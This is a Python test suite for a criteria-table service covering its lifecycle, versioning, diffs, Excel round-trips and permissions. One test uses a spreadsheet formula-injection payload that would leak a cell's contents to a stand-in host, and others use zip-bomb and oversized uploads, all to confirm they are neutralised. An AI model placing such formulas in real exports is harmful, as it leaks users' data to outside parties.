"""Criteria tables through the API: validation with pointers, the lifecycle, versions, the
diff, Excel in and out, and who may see and change what. Both stacks."""

from __future__ import annotations

import copy
import io
import json
from pathlib import Path
from typing import Any

import pytest
from flask.testing import FlaskClient
from openpyxl import load_workbook
from sqlalchemy import func, select

from conftest import service_app
from kit.app import database
from kit.events.tables import outbox
from kit.spreadsheets import REPLACEMENT
from services.criteria.domain import excel
from services.criteria.models import CriteriaTable
from services.criteria.service import SERVICE
from services.criteria.tests.test_excel import bad_rows, zip_bomb
from tests.support.events import assert_valid_event
from tests.support.stack import Stack
from tests.support.tokens import ministry_officer, unit_officer
from tests.support.workbooks import assert_only_text, peak_allocated

SAMPLE = json.loads(
    (Path(__file__).resolve().parents[1] / "data" / "sample-criteria-table.json").read_text()
)
OFFICER = ministry_officer()
HANOI = unit_officer("stp-01")


@pytest.fixture
def client(stack: Stack) -> FlaskClient:
    app = service_app(stack, SERVICE)
    client = app.test_client()
    client.app_ref = app  # type: ignore[attr-defined]
    return client


def create(client: FlaskClient, document: dict | None = None, year: int = 2024) -> dict:
    response = client.post(
        "/tables",
        headers=OFFICER,
        json={"year": year, "unit_kind": "so-tu-phap", "document": document or SAMPLE},
    )
    assert response.status_code == 201, response.get_json()
    return {**response.get_json(), "etag": response.headers["ETag"]}


def counts(client: FlaskClient) -> tuple[int, int]:
    with client.app_ref.app_context(), database().read() as session:  # type: ignore[attr-defined]
        tables = session.execute(select(func.count()).select_from(CriteriaTable)).scalar()
        events = session.execute(select(func.count()).select_from(outbox)).scalar()
    return tables, events


def published_events(client: FlaskClient) -> list[dict]:
    with client.app_ref.app_context(), database().read() as session:  # type: ignore[attr-defined]
        rows = session.execute(select(outbox.c.envelope).order_by(outbox.c.id)).scalars()
        return [json.loads(r) for r in rows]


def test_a_draft_is_validated_and_seen_only_by_ministry_officers(client: FlaskClient) -> None:
    draft = create(client)
    assert draft["status"] == "draft" and draft["version"] is None
    assert client.get(f"/tables/{draft['id']}", headers=HANOI).status_code == 404
    assert client.get("/tables", headers=HANOI).get_json()["total"] == 0
    assert client.get("/tables", headers=OFFICER).get_json()["total"] == 1
    refused = client.post(
        "/tables", headers=HANOI, json={"year": 2024, "unit_kind": "so-tu-phap", "document": SAMPLE}
    )
    assert refused.status_code == 403


def test_every_problem_of_a_broken_table_is_named_by_its_pointer(client: FlaskClient) -> None:
    broken = copy.deepcopy(SAMPLE)
    broken["parts"][0]["children"][0]["children"][0]["max_points"] = 7  # A.I no longer sums
    broken["parts"][1]["children"][1]["code"] = broken["parts"][1]["children"][0]["code"]
    before = counts(client)
    response = client.post(
        "/tables",
        headers=OFFICER,
        json={"year": 2024, "unit_kind": "so-tu-phap", "document": broken},
    )
    assert response.status_code == 422
    problem = response.get_json()
    pointers = {issue["pointer"] for issue in problem["issues"]}
    assert any(p.startswith("/parts/0/children/0") for p in pointers), pointers
    assert any(p.startswith("/parts/1/children/1") for p in pointers), pointers
    assert set(problem["errors"]) == pointers
    assert counts(client) == before


def test_saving_a_draft_needs_the_current_etag(client: FlaskClient) -> None:
    draft = create(client)
    changed = copy.deepcopy(SAMPLE)
    changed["title"] = "Bảng tiêu chí (dự thảo lần 2)"
    url = f"/tables/{draft['id']}"
    assert client.put(url, headers=OFFICER, json={"document": changed}).status_code == 428
    stale = client.put(url, headers={**OFFICER, "If-Match": 'W/"x-0"'}, json={"document": changed})
    assert stale.status_code == 412
    saved = client.put(
        url, headers={**OFFICER, "If-Match": draft["etag"]}, json={"document": changed}
    )
    assert saved.status_code == 200
    assert saved.get_json()["title"] == "Bảng tiêu chí (dự thảo lần 2)"
    assert saved.headers["ETag"] != draft["etag"]
    again = client.put(
        url, headers={**OFFICER, "If-Match": draft["etag"]}, json={"document": changed}
    )
    assert again.status_code == 412, "the first ETag is stale once the draft was saved"


def test_publishing_freezes_the_table_and_announces_its_snapshot(client: FlaskClient) -> None:
    draft = create(client)
    published = client.post(f"/tables/{draft['id']}/publish", headers=OFFICER, json={})
    assert published.status_code == 200, published.get_json()
    assert (published.get_json()["status"], published.get_json()["version"]) == ("published", 1)
    [event] = [e for e in published_events(client) if e["type"] == "criteria.table.published"]
    assert_valid_event(event)
    assert event["data"]["document"]["parts"] == SAMPLE["parts"]
    assert set(event["data"]["methods"]) >= {"bands_at_least", "manual"}

    edit = client.put(
        f"/tables/{draft['id']}", headers={**OFFICER, "If-Match": "*"}, json={"document": SAMPLE}
    )
    assert edit.status_code in (409, 412)
    edit = client.put(
        f"/tables/{draft['id']}",
        headers={**OFFICER, "If-Match": published.headers["ETag"]},
        json={"document": SAMPLE},
    )
    assert edit.status_code == 409
    assert edit.get_json()["allowed"] == ["amend", "clone"]
    assert (
        client.post(f"/tables/{draft['id']}/publish", headers=OFFICER, json={}).status_code == 409
    )
    assert client.get(f"/tables/{draft['id']}", headers=HANOI).status_code == 200


def test_an_amendment_is_the_next_version_with_a_note_and_a_diff(client: FlaskClient) -> None:
    first = create(client)
    client.post(f"/tables/{first['id']}/publish", headers=OFFICER, json={})
    amendment = client.post(f"/tables/{first['id']}/amendments", headers=OFFICER)
    assert amendment.status_code == 201
    draft = amendment.get_json()
    document = copy.deepcopy(draft["document"])
    section = document["parts"][0]["children"][0]  # A.I: move a point from A.I.1 to A.I.2
    section["children"][0]["max_points"] = 1
    section["children"][0]["method"]["bands"] = [
        {"threshold": 100, "points": 1},
        {"threshold": 80, "points": 0.5},
    ]
    section["children"][1]["max_points"] = 4
    section["children"][1]["method"]["bands"][0]["points"] = 4
    saved = client.put(
        f"/tables/{draft['id']}",
        json={"document": document},
        headers={**OFFICER, "If-Match": amendment.headers["ETag"]},
    )
    assert saved.status_code == 200, saved.get_json()

    no_note = client.post(f"/tables/{draft['id']}/publish", headers=OFFICER, json={})
    assert no_note.status_code == 422 and "change_note" in no_note.get_json()["errors"]
    second = client.post(
        f"/tables/{draft['id']}/publish",
        headers=OFFICER,
        json={"change_note": "Điều chỉnh điểm mục A.I theo QĐ sửa đổi"},
    )
    assert second.status_code == 200
    assert second.get_json()["version"] == 2
    assert client.get(f"/tables/{first['id']}", headers=HANOI).get_json()["status"] == (
        "superseded"
    )
    events = [e for e in published_events(client) if e["type"] == "criteria.table.published"]
    assert [e["data"]["version"] for e in events] == [1, 2]
    assert events[1]["data"]["supersedes_table_id"] == first["id"]
    assert_valid_event(events[1])

    diff = client.get(f"/tables/{draft['id']}/diff?against={first['id']}", headers=HANOI).get_json()
    changed = {c["code"]: c["changes"] for c in diff["changed"]}
    assert changed["A.I.1"]["max_points"] == {"old": 2, "new": 1}
    assert changed["A.I.2"]["max_points"] == {"old": 3, "new": 4}
    assert diff["added"] == [] and diff["removed"] == []
    text = client.get(
        f"/tables/{draft['id']}/diff?against={first['id']}&format=text", headers=HANOI
    )
    assert text.mimetype == "text/plain"
    assert "~ Sửa A.I.1 max_points: 2 → 1" in text.get_data(as_text=True)


def test_a_table_is_cloned_as_next_years_draft(client: FlaskClient) -> None:
    first = create(client)
    client.post(f"/tables/{first['id']}/publish", headers=OFFICER, json={})
    clone = client.post(f"/tables/{first['id']}/clones", headers=OFFICER, json={"year": 2027})
    assert clone.status_code == 201
    body = clone.get_json()
    assert (body["year"], body["status"], body["document"]["year"]) == (2027, "draft", 2027)
    assert body["document"]["parts"] == SAMPLE["parts"]
    draft_clone = client.post(f"/tables/{body['id']}/clones", headers=OFFICER, json={"year": 2028})
    assert draft_clone.status_code == 409


def test_excel_export_then_import_gives_an_equal_table(client: FlaskClient) -> None:
    first = create(client)
    exported = client.get(f"/tables/{first['id']}/export.xlsx", headers=OFFICER)
    assert exported.status_code == 200
    assert exported.mimetype.endswith("spreadsheetml.sheet")
    imported = client.post(
        "/tables/import",
        headers=OFFICER,
        data={
            "year": "2024",
            "unit_kind": "so-tu-phap",
            "file": (io.BytesIO(exported.data), "bang.xlsx"),
        },
        content_type="multipart/form-data",
    )
    assert imported.status_code == 201, imported.get_json()
    assert imported.get_json()["document"] == first["document"]


def upload(client: FlaskClient, data: bytes) -> Any:
    return client.post(
        "/tables/import",
        headers=OFFICER,
        data={"year": "2024", "unit_kind": "so-tu-phap", "file": (io.BytesIO(data), "bang.xlsx")},
        content_type="multipart/form-data",
    )


def test_titles_beginning_like_formulas_export_as_text_and_import_back(
    client: FlaskClient,
) -> None:
    """A title a person typed as =HYPERLINK(…), +1, -1 or @SUM is a string cell in the export
    (the Ministry's Excel shows it, never runs it) and comes back the same on import."""
    document = copy.deepcopy(SAMPLE)
    leak = '=HYPERLINK("http://evil.example/?leak="&B2,"x")'
    document["title"] = leak
    a_i = document["parts"][0]["children"][0]
    a_i["children"][0]["title"] = "=1+1"
    a_i["children"][1]["title"] = "-Báo cáo"
    a_i["children"][2]["title"] = "+Thẩm định"
    a_i["children"][3]["guidance"] = "@SUM(A1:A9)"
    first = create(client, document)
    exported = client.get(f"/tables/{first['id']}/export.xlsx", headers=OFFICER)
    assert exported.status_code == 200
    assert_only_text(exported.data, leak, "=1+1", "-Báo cáo", "+Thẩm định", "@SUM(A1:A9)")
    imported = upload(client, exported.data)
    assert imported.status_code == 201, imported.get_json()
    assert imported.get_json()["document"] == first["document"] == document


def test_a_table_stored_with_control_characters_still_exports(client: FlaskClient) -> None:
    """Text stored before input was checked (U+0000, U+000B, U+001F in the JSON document) does
    not fail the export: it answers 200 and shows U+FFFD in their place."""
    table = create(client)
    document = copy.deepcopy(SAMPLE)
    document["title"] = "Bảng\x00tiêu chí\x0b2024\x1f"
    document["parts"][0]["title"] = "Phần\x0bA"
    with client.app_ref.app_context(), database().transaction() as session:  # type: ignore[attr-defined]
        session.get(CriteriaTable, table["id"]).document = document  # type: ignore[union-attr]
    exported = client.get(f"/tables/{table['id']}/export.xlsx", headers=OFFICER)
    assert exported.status_code == 200, exported.get_data(as_text=True)
    ws = load_workbook(io.BytesIO(exported.data))["Bảng tiêu chí"]
    assert ws["B1"].value == f"Bảng{REPLACEMENT}tiêu chí{REPLACEMENT}2024{REPLACEMENT}"
    assert f"Phần{REPLACEMENT}A" in [ws.cell(row, 2).value for row in range(1, ws.max_row + 1)]


def test_a_zip_bomb_is_refused_unread_with_a_small_413(client: FlaskClient) -> None:
    """A 120 KB upload that unpacks to 64 MiB answers at once, naming the limit."""
    before = counts(client)
    bomb = zip_bomb(64 * 1024 * 1024)
    response, peak = peak_allocated(lambda: upload(client, bomb))
    assert peak < 8 * 1024 * 1024  # refused from the archive's directory, never inflated
    assert response.status_code == 413
    assert response.mimetype == "application/problem+json"
    assert len(response.data) < 2_000
    body = response.get_json()
    assert body["type"] == "urn:thidua:problem:payload-too-large"
    assert body["limit"] == "max_unpacked_bytes"
    assert body["limit_value"] == excel.MAX_UNPACKED_BYTES
    assert str(excel.MAX_UNPACKED_BYTES) in body["detail"]
    assert counts(client) == before


def test_200000_bad_rows_are_refused_with_one_error_about_the_row_limit(
    client: FlaskClient,
) -> None:
    """Once 200,000 errors in 9 s and a 49 MB answer; now one error and a small answer (its
    time is the benchmarks' business)."""
    before = counts(client)
    response = upload(client, bad_rows(200_000))
    assert response.status_code == 422
    assert len(response.data) < 4_000
    body = response.get_json()
    assert [e["code"] for e in body["excel_errors"]] == ["too_many_rows"]
    assert body["excel_errors"][0]["row"] == excel.MAX_ROWS + 1
    assert body["error_count"] == 1 and body["errors_truncated"] is False
    assert counts(client) == before


def test_only_the_first_errors_are_listed_with_their_count(client: FlaskClient) -> None:
    before = counts(client)
    response = upload(client, bad_rows(1500))
    assert response.status_code == 422
    assert len(response.data) < 100_000
    body = response.get_json()
    assert len(body["excel_errors"]) == excel.MAX_REPORTED_ERRORS
    assert body["error_count"] == 3000 and body["errors_truncated"] is True
    assert "3000 lỗi (liệt kê 100 lỗi đầu)" in body["detail"]
    english = client.post(
        "/tables/import",
        headers={**OFFICER, "Accept-Language": "en"},
        data={
            "year": "2024",
            "unit_kind": "so-tu-phap",
            "file": (io.BytesIO(bad_rows(1500)), "b.xlsx"),
        },
        content_type="multipart/form-data",
    ).get_json()
    assert "3000 errors (the first 100 are listed)" in english["detail"]
    assert counts(client) == before


def test_a_bad_excel_file_is_refused_with_its_errors_and_nothing_saved(
    client: FlaskClient,
) -> None:
    before = counts(client)
    response = client.post(
        "/tables/import",
        headers=OFFICER,
        data={
            "year": "2024",
            "unit_kind": "so-tu-phap",
            "file": (io.BytesIO(b"not a workbook"), "bang.xlsx"),
        },
        content_type="multipart/form-data",
    )
    assert response.status_code == 422
    assert response.get_json()["excel_errors"]
    assert counts(client) == before
    template = client.get("/tables/template.xlsx", headers=OFFICER)
    assert template.status_code == 200 and template.data[:2] == b"PK"
